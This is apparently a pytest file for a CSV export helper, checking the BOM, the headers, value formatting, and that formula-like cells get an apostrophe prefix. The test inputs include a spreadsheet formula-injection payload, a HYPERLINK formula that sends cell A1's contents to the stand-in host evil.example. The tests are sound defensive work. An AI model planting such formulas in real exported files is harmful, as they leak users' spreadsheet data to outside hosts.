"""CSV downloads: Excel-friendly, and a cell never runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from core.export import to_csv


def read(data: bytes) -> list[list[str]]:
    """The CSV back as rows of text (what a spreadsheet would load)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_header_comes_from_the_keys_and_the_file_starts_with_a_bom():
    # Given rows whose second has an extra key
    rows = [{"Name": "Alex", "Balance": 1234}, {"Name": "Bethan", "Balance": 5, "Note": "hi"}]
    # When exported
    data = to_csv(rows)
    # Then Excel sees UTF-8 (BOM), every key is a column, and missing cells are blank
    assert data.startswith(b"\xef\xbb\xbf")
    assert read(data) == [["Name", "Balance", "Note"], ["Alex", "1234", ""],
                          ["Bethan", "5", "hi"]]


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+2",
    "+44 20 7946 0321",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
])
def test_formula_cells_are_neutralised(typed):
    # Given a note someone typed that a spreadsheet would run as a formula
    rows = [{"Note": typed}]
    # When exported
    cell = read(to_csv(rows))[1][0]
    # Then the cell starts with an apostrophe, so it shows as text, and nothing else changed
    assert cell == "'" + typed


def test_ordinary_values_are_written_as_they_are():
    # Given numbers (negative too), dates, booleans, None and unicode text
    rows = [{"n": -5, "when": date(2026, 2, 28),
             "at": datetime(2026, 11, 23, 9, 30, tzinfo=UTC), "ok": True, "none": None,
             "name": "Zoë O'Neill, Ltd"}]
    # When exported
    out = read(to_csv(rows))
    # Then numbers stay numbers (not prefixed), dates are ISO, and text round-trips exactly
    assert out[1] == ["-5", "2026-02-28", "2026-11-23T09:30:00+00:00", "yes", "",
                      "Zoë O'Neill, Ltd"]


def test_an_empty_list_with_columns_gives_just_the_header():
    assert read(to_csv([], columns=["Debtor", "Due"])) == [["Debtor", "Due"]]
    assert to_csv([]) == b"\xef\xbb\xbf\r\n"


def test_a_formula_in_a_header_is_neutralised_too():
    assert read(to_csv([{"=cmd": 1}]))[0] == ["'=cmd"]
